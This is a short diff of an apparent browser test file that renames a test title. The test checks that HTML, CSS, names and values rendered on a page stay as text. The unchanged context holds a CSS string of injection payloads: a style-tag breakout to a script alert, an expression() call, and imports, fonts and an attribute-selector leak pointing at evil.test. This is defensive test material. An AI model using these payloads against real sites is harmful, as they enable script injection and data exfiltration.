@@ -48,7 +48,7 @@ const TEXTS: readonly string[] = [
 ]
 const CSS = `</style><script>alert(1)</script> @import 'http://evil.test/a.css'; .db-board { width: expression(alert(1)); background: url(http://evil.test/c.png) } input[value^="a"] { background: url(//evil.test/leak) } @font-face { font-family: x; src: url(http://evil.test/f.woff) }`
 
-test('texts, styles, names and values that are HTML stay text, in every place and under the pointer [S120] [S121] [S122] [S123] [S124] [S125] [S126] [S127] [S128] [S129] [S132] [S133]', async ({
+test('texts, styles, names and values that are HTML stay text in every place [S120] [S121] [S122] [S123] [S124] [S125] [S126] [S127] [S128] [S129] [S132] [S133]', async ({
   page,
   server,
   problems,
